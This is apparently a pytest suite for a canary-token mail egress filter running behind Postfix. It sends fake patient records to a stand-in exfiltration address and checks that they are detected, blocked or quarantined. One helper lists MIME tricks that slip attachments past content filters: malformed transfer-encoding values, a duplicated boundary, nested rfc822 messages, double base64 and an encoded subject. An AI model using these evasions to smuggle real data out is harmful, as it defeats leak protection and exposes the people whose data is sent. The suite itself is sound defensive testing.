"""Outbound mail through a real Postfix that asks the milter (Debian postfix; skipped without it)."""

from __future__ import annotations

import base64
import smtplib
import uuid
from collections.abc import Iterator
from email.message import EmailMessage

import pytest

from canary.watch.egress.milter import MilterService
from tests.support.egress import csv_rows, events_for, start_milter, zipped
from tests.support.peers.egress import POSTFIX, MailSink, Postfix
from tests.support.wait import wait_for

pytestmark = pytest.mark.skipif(POSTFIX is None, reason="postfix is not installed (Debian package 'postfix')")


@pytest.fixture(scope="module")
def milters(registry) -> Iterator[dict[str, MilterService]]:
    services = {"monitor": start_milter(registry[0]),
                "reject": start_milter(registry[0], block=True),
                "quarantine": start_milter(registry[0], block=True, mail_block_action="quarantine")}
    yield services
    for service in services.values():
        service.stop()


@pytest.fixture(scope="module")
def sink() -> Iterator[MailSink]:
    with MailSink() as server:
        yield server


@pytest.fixture(scope="module")
def postfix(milters, sink) -> Iterator[Postfix]:
    with Postfix({name: service.port for name, service in milters.items()}, sink.port) as gateway:
        yield gateway


def mail(subject: str, attachment: bytes | None = None, filename: str = "patients.csv",
         text: str = "Bonjour, ci-joint le fichier.\n") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "secretariat@chu-test.invalid"
    message["To"] = "dropbox@exfil.invalid"
    message["Subject"] = subject
    message.set_content(text)
    if attachment is not None:
        maintype, subtype = ("application", "zip") if filename.endswith(".zip") else ("text", "csv")
        message.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return message


def assert_never_relayed(postfix: Postfix, sink: MailSink, subject: str) -> None:
    """A clean mail sent afterwards reaches the sink: had the first one been relayed, it would be there too."""
    after = f"ensuite {uuid.uuid4().hex}"
    send(postfix, "monitor", mail(after))
    sink.wait_for(after.encode())
    assert sink.find(subject.encode()) is None


def send(postfix: Postfix, name: str, message: EmailMessage) -> None:
    with smtplib.SMTP("127.0.0.1", postfix.ports[name], timeout=30) as client:
        client.send_message(message, from_addr="secretariat@chu-test.invalid",
                            to_addrs=["dropbox@exfil.invalid", "copy@exfil.invalid"])


@pytest.mark.parametrize("packing", ["csv", "zip"])
def test_mail_with_a_canary_attached_is_seen_and_delivered(postfix, sink, registry, packing):
    db_path, canaries = registry
    subject = f"export {uuid.uuid4().hex}"
    data = csv_rows(canaries[0], canaries[2])
    attachment, filename = (zipped("patients.csv", data), "export.zip") if packing == "zip" else (data, "patients.csv")
    send(postfix, "monitor", mail(subject, attachment, filename))
    delivered = sink.wait_for(subject.encode())
    assert delivered is not None, postfix.log()[-3000:]
    events = events_for(db_path, subject)
    assert sorted((e["canary_id"], e["system"]) for e in events) == [("eg0000", "ehr-lyon"), ("eg0002", "lab-nord")]
    event = events[0]
    assert event["channel"] == "egress-mail" and event["action"] == "passed" and event["source"] == "127.0.0.1"
    details = event["details"]
    assert details["sender"] == "secretariat@chu-test.invalid"
    assert details["recipients"] == ["dropbox@exfil.invalid", "copy@exfil.invalid"]
    assert details["subject"] == subject and details["destination"] == "exfil.invalid"
    assert details["queue_id"]
    assert len({e["details"]["group"] for e in events}) == 1 and details["systems"] == ["ehr-lyon", "lab-nord"]


def test_mail_with_a_canary_in_the_text_is_seen(postfix, sink, registry):
    db_path, canaries = registry
    subject = f"texte {uuid.uuid4().hex}"
    send(postfix, "monitor", mail(subject, text=csv_rows(canaries[1]).decode()))
    assert sink.wait_for(subject.encode()) is not None
    assert [e["canary_id"] for e in events_for(db_path, subject)] == ["eg0001"]


def test_block_mode_rejects_with_a_5xx(postfix, sink, registry):
    db_path, canaries = registry
    subject = f"refus {uuid.uuid4().hex}"
    with pytest.raises(smtplib.SMTPDataError) as refused:
        send(postfix, "reject", mail(subject, csv_rows(canaries[3])))
    assert refused.value.smtp_code == 550 and b"security policy" in refused.value.smtp_error
    assert [(e["canary_id"], e["action"]) for e in events_for(db_path, subject)] == [("eg0003", "blocked")]
    assert_never_relayed(postfix, sink, subject)


def test_quarantine_holds_the_mail(postfix, sink, registry):
    db_path, canaries = registry
    subject = f"quarantaine {uuid.uuid4().hex}"
    held_before = len(postfix.held())
    send(postfix, "quarantine", mail(subject, csv_rows(canaries[1])))  # accepted: the sender sees nothing
    assert [(e["canary_id"], e["action"]) for e in events_for(db_path, subject)] == [("eg0001", "blocked")]
    wait_for(lambda: len(postfix.held()) > held_before, timeout=10, interval=0.05,
             message=lambda: postfix.log()[-2000:])
    assert_never_relayed(postfix, sink, subject)


@pytest.mark.parametrize("name", ["monitor", "reject"])
def test_clean_mail_is_delivered_untouched(postfix, sink, registry, name):
    subject = f"propre {uuid.uuid4().hex}"
    send(postfix, name, mail(subject, b"nom;prenom\nDURAND;Paul\n"))
    assert sink.wait_for(subject.encode()) is not None
    assert events_for(registry[0], subject) == []


def _raw_mail(tag: str, headers: str, body: str) -> bytes:
    return (f"From: secretariat@chu-test.invalid\r\nTo: dropbox@exfil.invalid\r\nSubject: export {tag}\r\n"
            f"MIME-Version: 1.0\r\n{headers}\r\n\r\n{body}").replace("\r\n", "\n").replace("\n", "\r\n").encode()


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def _mime_forms(rows: bytes) -> dict[str, tuple[str, str]]:
    """(extra headers, body) of each way a mail client still reads the attachment (issue: all let through)."""
    attachment = ('--b1\nContent-Type: text/plain\n\nBonjour\n--b1\nContent-Type: text/csv; name="p.csv"\n'
                  'Content-Transfer-Encoding: {cte}\nContent-Disposition: attachment; filename="p.csv"\n\n'
                  '{data}--b1--\n')
    inner = ("From: a@b.invalid\nSubject: fwd\nMIME-Version: 1.0\nContent-Type: text/csv\n"
             f"Content-Transfer-Encoding: base64\n\n{_b64(rows)}")
    return {
        "cte with a trailing space": ('Content-Type: multipart/mixed; boundary="b1"',
                                      attachment.format(cte="base64 ", data=_b64(rows))),
        "cte quoted": ('Content-Type: multipart/mixed; boundary="b1"',
                       attachment.format(cte='"base64"', data=_b64(rows))),
        "cte with a comment": ('Content-Type: multipart/mixed; boundary="b1"',
                               attachment.format(cte="base64 (x)", data=_b64(rows))),
        "boundary given twice": ('Content-Type: multipart/mixed; boundary="zz"; boundary="b1"',
                                 attachment.format(cte="base64", data=_b64(rows))),
        "message/rfc822 with base64 inside": (
            'Content-Type: multipart/mixed; boundary="b1"',
            f'--b1\nContent-Type: text/plain\n\nVoir le message joint\n--b1\nContent-Type: message/rfc822\n\n{inner}\n'
            '--b1--\n'),
        "base64 text inside base64": ('Content-Type: multipart/mixed; boundary="b1"',
                                      attachment.format(cte="base64", data=_b64(_b64(rows).encode()))),
        "canary in the subject": ("Content-Type: text/plain", "Bonjour\n"),
    }


@pytest.mark.parametrize("name", ["monitor", "reject"])
@pytest.mark.parametrize("form", list(_mime_forms(b"")))
def test_mime_as_mail_clients_read_it(postfix, sink, registry, form, name):
    db_path, canaries = registry
    tag = uuid.uuid4().hex
    rows = csv_rows(canaries[3])
    headers, body = _mime_forms(rows)[form]
    raw = _raw_mail(tag, headers, body)
    if form == "canary in the subject":
        words = base64.b64encode(rows.splitlines()[1]).decode()
        raw = raw.replace(f"Subject: export {tag}".encode(), f"Subject: =?utf-8?b?{words}?= export {tag}".encode())
    with smtplib.SMTP("127.0.0.1", postfix.ports[name], timeout=30) as client:
        if name == "monitor":
            client.sendmail("secretariat@chu-test.invalid", ["dropbox@exfil.invalid"], raw)
        else:
            with pytest.raises(smtplib.SMTPDataError) as refused:
                client.sendmail("secretariat@chu-test.invalid", ["dropbox@exfil.invalid"], raw)
            assert refused.value.smtp_code == 550
    events = events_for(db_path, tag)
    assert [(e["canary_id"], e["action"]) for e in events] == [
        ("eg0003", "passed" if name == "monitor" else "blocked")], form
    if name == "monitor":
        assert sink.wait_for(tag.encode()) is not None
